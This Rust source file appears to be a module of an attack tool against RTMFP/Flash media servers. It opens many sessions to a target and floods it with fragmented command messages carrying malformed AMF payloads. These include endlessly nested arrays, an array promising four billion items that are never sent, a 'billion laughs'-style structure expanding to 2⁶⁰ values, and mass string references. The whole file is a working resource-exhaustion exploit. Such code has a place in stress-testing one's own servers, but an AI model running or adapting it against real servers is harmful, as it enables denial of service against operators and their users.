//! Calls with values that are as long, as deep and as many as they can be.

use super::line::{Line, RUN};
use super::packets::{flags, message};
use super::puppet::{CONTROL, Puppet, Puppets};
use super::{Attack, Setting};
use rtmfp::amf::Value;
use rtmfp::proto::crypto::Negotiation;
use rtmfp::proto::flash::{Body, Command, Format, ObjectEncoding};
use rtmfp::wire::Chunk;
use rtmfp::wire::chunk::{FragmentControl, UserData};

const SESSIONS: usize = 32;
/// Bytes of a fragment.
const FRAGMENT: usize = 1100;
/// Bytes of the longest values.
const LONG: usize = 250 << 10;

pub(super) struct Amf {
    puppets: Puppets,
    messages: Vec<Vec<u8>>,
    /// The next sequence number of each.
    sequences: Vec<u64>,
    next: usize,
}

/// A call whose last argument is these bytes of AMF0.
fn call(argument: &[u8]) -> anyhow::Result<Vec<u8>> {
    let name = Command::new("nothing", 7.0, vec![Value::from("x")]);
    let Body::Command(_, head) = name.encode(ObjectEncoding::Amf0)? else {
        anyhow::bail!("a command is a command")
    };
    let values = [&head, argument].concat();
    Ok(message(Body::Command(Format::Plain, values.into())))
}

/// The values: AMF0, and AMF3 behind its marker 0x11.
fn messages() -> anyhow::Result<Vec<Vec<u8>>> {
    let count = (LONG as u32).to_be_bytes();
    // Arrays in arrays, without end.
    let nested = [0x0a, 0, 0, 0, 1].repeat(LONG / 5);
    let nested_three = [&[0x11][..], &[0x09, 0x03, 0x01].repeat(LONG / 3)].concat();
    // An array of values of a byte each, all of which are there, …
    let nulls = [&[0x0a][..], &count, &vec![0x05; LONG]].concat();
    // … and one that promises 4,294,967,295 and has none.
    let promises = [&[0x0a][..], &[0xff; 4], &[0x05]].concat();
    // Each array is two times the one before it: 2⁶⁰ values.
    let mut laughs = Vec::new();
    for level in 0..60_u8 {
        let inner = if level == 0 { [0x04, 0x01] } else { [0x09, 2 * (level - 1)] };
        laughs.extend([0x11, 0x09, 0x05, 0x01]);
        laughs.extend(inner.repeat(2));
    }
    // A long string, and references to it.
    let text = LONG / 2;
    let length = ((text as u32) << 1) | 1;
    let vlu = [0x80 | (length >> 14) as u8, 0x80 | (length >> 7) as u8, (length & 0x7f) as u8];
    let mut strings = vec![0x11, 0x09, 0x87, 0xff, 0x7f, 0x01, 0x06];
    strings.extend(vlu);
    strings.extend(vec![b'a'; text]);
    strings.extend([0x06, 0x00].repeat(LONG / 5));
    let values = [nested, nested_three, nulls, promises, laughs, strings];
    values.iter().map(|value| call(value)).collect()
}

impl Amf {
    pub(super) fn prepare(setting: &Setting, line: &mut Line) -> anyhow::Result<Self> {
        let (offer, count) = (Negotiation::default(), setting.sessions.unwrap_or(SESSIONS));
        let puppets = Puppets::connect(line, &setting.uri, (count, 1), &offer)?;
        let sequences = vec![2; puppets.all.len()];
        Ok(Self { puppets, messages: messages()?, sequences, next: 0 })
    }
}

/// Sends a message in fragments. What was lost of earlier ones is given up, so that this one counts.
pub(super) fn send_whole(
    line: &mut Line,
    puppet: &mut Puppet,
    (flow, sequence): (u64, &mut u64),
    options: Option<&[u8]>,
    message: &[u8],
) {
    let count = message.len().div_ceil(FRAGMENT);
    let (at, mut run, mut segment) = (puppet.at, Vec::new(), 0);
    for (number, data) in message.chunks(FRAGMENT).enumerate() {
        let position = match (number == 0, number + 1 == count) {
            (true, true) => FragmentControl::Whole,
            (true, false) => FragmentControl::Begin,
            (false, true) => FragmentControl::End,
            (false, false) => FragmentControl::Middle,
        };
        let fragment = UserData {
            flags: flags(position),
            flow,
            sequence: *sequence,
            fsn_offset: number as u64 + 1,
            options: options.filter(|_| number == 0),
            data,
        };
        *sequence += 1;
        let packet = puppet.packet(&[Chunk::UserData(fragment)]);
        if packet.len() != segment || run.len() / segment >= RUN {
            line.send_run(at, &run, segment);
            run.clear();
            segment = packet.len();
        }
        run.extend(packet);
    }
    line.send_run(at, &run, segment);
}

impl Attack for Amf {
    fn sessions(&self) -> usize {
        self.puppets.all.len()
    }

    fn burst(&mut self, line: &mut Line) -> anyhow::Result<()> {
        let index = self.next % self.puppets.all.len();
        let message = &self.messages[(self.next / 3) % self.messages.len()];
        self.next += 1;
        let (puppet, sequence) = (&mut self.puppets.all[index], &mut self.sequences[index]);
        send_whole(line, puppet, (CONTROL, sequence), None, message);
        self.puppets.serve(line)?;
        Ok(())
    }
}
